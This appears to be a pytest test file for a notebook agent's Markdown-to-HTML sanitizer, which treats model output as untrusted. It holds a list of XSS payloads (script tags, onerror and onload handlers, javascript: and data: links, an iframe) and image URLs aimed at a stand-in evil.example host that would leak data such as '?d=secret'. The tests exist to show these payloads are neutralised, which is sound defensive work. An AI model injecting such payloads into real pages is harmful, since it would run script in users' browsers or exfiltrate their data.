"""Model text is untrusted: Markdown -> sanitized HTML, in `markdown_to_html` and in the widget view.

Outputs are parsed with the stdlib HTML parser, so the checks are about the tags and
attributes a browser would build, not only about substrings.
"""

from __future__ import annotations

import re

import pytest

from ipyagent.notebook.render.html import ALLOWED_TAGS, markdown_to_html, sanitize
from ..support.views import Collector, parse

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "md_js_link": "[x](javascript:alert(1))",
    "md_js_link_mixed_case": "[x](JaVaScRiPt:alert(1))",
    "md_js_image": "![x](javascript:alert(1))",
    "raw_js_anchor": '<a href="javascript:alert(1)">click</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "div_onclick": '<div onclick="alert(1)">click me</div>',
    "data_image": "![pic](data:image/png;base64,iVBORw0KGgo=)",
    "data_html_link": "[y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "svg_onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "style_tag": "<style>body{display:none}</style>",
}
ALL_HOSTILE = "\n\n".join(HOSTILE.values())

#: Tags that must never come out of the renderer, whatever the input.
FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "svg", "style", "form", "input", "link", "meta", "base"}


def assert_safe(html: str, *, allowed_tags: set[str] = ALLOWED_TAGS) -> Collector:
    """No script-capable tag, no event handler, no non-http(s)/mailto URL anywhere."""
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered
    doc = parse(html)
    for tag, attrs in doc.tags:
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        assert tag in allowed_tags, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            if name == "style":  # only table column alignment survives
                assert tag in ("td", "th") and re.fullmatch(r"text-align:\s*(left|right|center)", value or ""), (
                    tag,
                    value,
                )
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                url = (value or "").strip().lower()
                if tag == "img" and re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*", url):
                    continue  # inline raster data: drawn, loads nothing
                assert "javascript:" not in url, (tag, name, value)
                assert not url.startswith(("data:", "vbscript:")), (tag, name, value)
                assert url.startswith(("http://", "https://", "mailto:")), (tag, name, value)
    return doc


# -- markdown_to_html ---------------------------------------------------------------------


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_each_hostile_snippet_is_neutralized(text: str) -> None:
    assert_safe(markdown_to_html(text))


def test_all_hostile_snippets_together() -> None:
    html = markdown_to_html(ALL_HOSTILE)
    doc = assert_safe(html)
    # Raw HTML is escaped, so the would-be tags are shown as text rather than dropped silently.
    assert "<script>alert(1)</script>" in doc.text
    assert '<div onclick="alert(1)">click me</div>' in doc.text
    # The inline PNG stays (it loads nothing); no other image survives.
    imgs = [attrs for tag, attrs in doc.tags if tag == "img"]
    assert imgs == [{"src": "data:image/png;base64,iVBORw0KGgo=", "alt": "pic"}]
    # No link survived at all: none of them pointed anywhere safe.
    assert not [attrs for tag, attrs in doc.tags if tag == "a" and "href" in attrs]


def test_sanitize_cleans_raw_html_too() -> None:
    """The nh3 pass is a second wall: even HTML that reached it directly comes out clean."""
    raw = (
        '<p onclick="x()">hi<script>alert(1)</script></p>'
        '<a href="javascript:alert(1)">a</a><a href="https://ok.example/">b</a>'
        '<img src="data:image/png;base64,AAAA" onerror="alert(1)" alt="i">'
        '<iframe src="https://evil.example/"></iframe><div onmouseover="x()" class="c">d</div>'
        '<table><tr><td style="text-align:center; background:url(javascript:alert(1)); '
        'position:fixed">t</td></tr></table>'
        '<p style="position:fixed;top:0">p</p>'
    )
    html = sanitize(raw)
    doc = assert_safe(html)
    assert [attrs.get("href") for tag, attrs in doc.tags if tag == "a"] == [None, "https://ok.example/"]
    assert ("div", {"class": "c"}) in doc.tags
    assert ("td", {"style": "text-align:center"}) in doc.tags
    assert ("p", {}) in doc.tags
    assert "alert(1)" not in doc.text  # script content is dropped, not shown


def test_benign_markdown_renders_to_expected_tags() -> None:
    text = (
        "# Title\n\n## Sub\n\nSome **bold**, *em* and `code` and ~~gone~~.\n\n"
        "```python\nprint('<b>not markup</b>')\n```\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n"
        "> quoted\n\n"
        "[docs](https://example.com/docs?q=1&r=2) and [mail](mailto:a@example.com)\n\n"
        "![logo](https://example.com/logo.png)\n"
    )
    html = markdown_to_html(text)
    doc = assert_safe(html)
    tags = [t for t, _ in doc.tags]
    for expected in (
        "h1",
        "h2",
        "strong",
        "em",
        "code",
        "s",
        "pre",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "ul",
        "ol",
        "li",
        "blockquote",
        "a",
    ):
        assert expected in tags, (expected, html)
    attrs = {t: a for t, a in doc.tags if t in ("a", "ol")}
    links = [a for t, a in doc.tags if t == "a"]
    assert links[0]["href"] == "https://example.com/docs?q=1&r=2"
    assert links[1]["href"] == "mailto:a@example.com"
    assert all(
        a.get("rel") == "noopener noreferrer nofollow" and a.get("referrerpolicy") == "no-referrer" for a in links
    )
    assert links[2]["href"] == "https://example.com/logo.png" and "img" not in tags  # a remote image is a link
    assert attrs["ol"] == {"start": "3"}
    assert ("code", {"class": "language-python"}) in doc.tags
    # Column alignment survives sanitizing (markdown-it writes it as a style).
    assert [a.get("style") for t, a in doc.tags if t in ("th", "td")] == ["text-align:left", "text-align:right"] * 2
    # Code in a fence is shown as text, not interpreted.
    assert "print('<b>not markup</b>')" in doc.text
    assert "b" not in tags
    assert "Title" in doc.text and "quoted" in doc.text


# -- inert output: rendering never loads anything (issue 11) --------------------------------------

PNG = (
    "data:image/png;base64,"
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


@pytest.mark.parametrize("markdown, href", [
    ("![x](http://evil.example/a.png?d=secret)", "http://evil.example/a.png?d=secret"),
    ("![x](https://evil.example/a.png)", "https://evil.example/a.png"),
    ("![x](//evil.example/p.png)", "//evil.example/p.png"),
    ("![x](/api/contents?x=1)", "/api/contents?x=1"),
    ("![x](rel/a.png)", "rel/a.png"),
    ("![x][r]\n\n[r]: http://evil.example/ref.png", "http://evil.example/ref.png"),
])
def test_every_image_but_inline_raster_data_becomes_a_link(markdown, href):
    from ipyagent.notebook.render.html import markdown_to_html

    html = markdown_to_html(markdown)
    assert "<img" not in html
    assert f'<a href="{href.replace("&", "&amp;")}" class="ipyagent-image-link"' in html
    assert 'referrerpolicy="no-referrer"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_inline_raster_images_stay_and_svg_does_not():
    from ipyagent.notebook.render.html import markdown_to_html

    assert f'<img src="{PNG}" alt="dot">' in markdown_to_html(f"![dot]({PNG})")
    assert "<img" not in markdown_to_html("![s](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)")


def test_links_send_no_referrer_and_sanitized_html_loads_no_image():
    from ipyagent.notebook.render.html import markdown_to_html, sanitize

    assert markdown_to_html("[a](https://example.org/)") == (
        '<p><a href="https://example.org/" referrerpolicy="no-referrer" rel="noopener noreferrer nofollow">a</a></p>\n')
    cleaned = sanitize(
        f'<img src="http://evil/a.png"><img src="//evil/b.png"><img src="{PNG}"><a href="data:text/html,x">d</a>'
    )
    link = 'class="ipyagent-image-link" referrerpolicy="no-referrer" rel="noopener noreferrer nofollow">🖼 image</a>'
    # Raw HTML follows the Markdown rule: an image that would load from outside is a link to it.
    assert cleaned == (f'<a href="http://evil/a.png" {link}<a href="//evil/b.png" {link}<img src="{PNG}">'
                       '<a rel="noopener noreferrer nofollow" referrerpolicy="no-referrer">d</a>')


def test_the_markdown_fallback_has_no_image_to_load():
    from ipyagent.notebook.render.transcript import inert

    assert inert("see ![x](http://evil/a.png) and ![r][ref]") == "see !\\[x](http://evil/a.png) and !\\[r][ref]"
